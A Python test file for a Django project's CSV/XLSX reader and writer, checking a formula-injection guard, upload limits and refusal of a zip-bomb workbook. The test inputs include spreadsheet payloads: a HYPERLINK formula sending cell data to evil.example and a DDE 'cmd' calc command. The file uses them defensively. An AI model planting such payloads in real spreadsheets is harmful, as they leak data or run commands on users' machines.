"""The one reader and the one writer of tables (itas.core.tabular): the formula guard and the
upload limits that every CSV/XLSX path relies on."""

import csv
import io
import tracemalloc
import zipfile
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from itas.core import tabular
from tests.bombs import xlsx_with_one_huge_cell

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&D2,"x")'


@pytest.mark.parametrize(
    "value",
    [PAYLOAD, "+66 81 234 5678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "\t=1+1", "\r=1"],
)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(value):
    assert tabular.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [12, -5, 3.25, Decimal("-1.50"), "-12.5", "+7", "1e3", None])
def test_numbers_stay_numbers(value):
    assert tabular.neutralise(value) == value


def test_ordinary_text_and_a_lone_dash_are_unchanged():
    for value in ("เทศบาลตำบลท่าสะอาด", "a=b", "0812345678", "-"):
        assert tabular.neutralise(value) == value


def test_csv_and_xlsx_writers_apply_the_guard_to_header_and_rows():
    rows = [[PAYLOAD, 42, -3.5, "น้ำ"]]
    lines = "".join(tabular.csv_lines(["=name", "n", "x", "t"], rows))
    assert lines.startswith(tabular.BOM)
    parsed = list(csv.reader(io.StringIO(lines.lstrip(tabular.BOM))))
    assert parsed == [["'=name", "n", "x", "t"], ["'" + PAYLOAD, "42", "-3.5", "น้ำ"]]

    book = load_workbook(tabular.xlsx_file(["name", "n", "x", "t"], rows, title="หัวเรื่อง"))
    sheet = book.active
    cells = list(sheet.iter_rows(min_row=3, max_row=3))[0]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
    assert [c.value for c in cells] == ["'" + PAYLOAD, 42, -3.5, "น้ำ"]
    assert sheet.freeze_panes == "A3"  # title and header stay in view
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width


def _xlsx(rows) -> bytes:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_reader_gives_text_cells_with_line_numbers_and_skips_blank_rows():
    data = _xlsx([["code", "phone"], [None, None], [1234567.0, 812345678]])
    assert tabular.read_rows(data, "list.xlsx") == [
        (1, ["code", "phone"]),
        (3, ["1234567", "812345678"]),
    ]
    text = "ชื่อ;โทรศัพท์\n\nก;081\n".encode("cp874")
    rows = tabular.read_rows(text, "c.csv", delimiters=",;\t")
    assert rows == [(1, ["ชื่อ", "โทรศัพท์"]), (3, ["ก", "081"])]


@pytest.fixture(scope="session")
def bomb() -> bytes:
    return xlsx_with_one_huge_cell()


def test_an_xlsx_holding_one_huge_cell_is_refused_before_it_is_loaded(bomb):
    """The replay of the contact-list upload that took a worker to 3 GB: a 1.5 MB workbook
    holding one 1.5 GB cell. It is refused from the archive's directory, with a Thai message,
    while the memory used stays a small multiple of the file."""
    assert len(bomb) < 2 * tabular.MB
    with zipfile.ZipFile(io.BytesIO(bomb)) as z:
        assert sum(i.file_size for i in z.infolist()) > 1_400_000_000
    tracemalloc.start()
    try:
        with translation.override("th"), pytest.raises(tabular.TabularError) as exc:
            tabular.read_rows(bomb, "contacts.xlsx")
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "ไม่รับสมุดงานนี้" in str(exc.value) and "1.4 MB" in str(exc.value)
    assert peak < 20 * tabular.MB


@translation.override("en")
def test_limits_on_rows_cells_and_size():
    limits = tabular.Limits(max_rows=3, max_cells=50, max_bytes=10_000)
    with pytest.raises(tabular.TabularError, match="more than 3 rows"):
        tabular.read_rows(b"a\nb\nc\nd\n", "x.csv", limits=limits)
    with pytest.raises(tabular.TabularError, match="more than 50 cells"):
        tabular.read_rows(_xlsx([["x"] * 60]), "x.xlsx", limits=limits)
    with pytest.raises(tabular.TabularError, match="larger than"):
        tabular.read_rows(b"a," * 6000, "x.csv", limits=limits)
    with pytest.raises(tabular.TabularError, match="not a text file"):
        tabular.read_rows(b"a\x00b", "x.csv")
    with pytest.raises(tabular.TabularError, match="CSV or XLSX"):
        tabular.read_rows(b"%PDF-1.4", "letter.pdf")


def test_a_workbook_claiming_a_huge_sheet_is_read_by_its_real_cells():
    data = _xlsx([["name"], ["ก"]])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        members = {n: z.read(n) for n in z.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = sheet.replace(
        b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>', 1
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members.items():
            z.writestr(name, content)
    assert tabular.read_rows(out.getvalue(), "x.xlsx") == [(1, ["name"]), (2, ["ก"])]
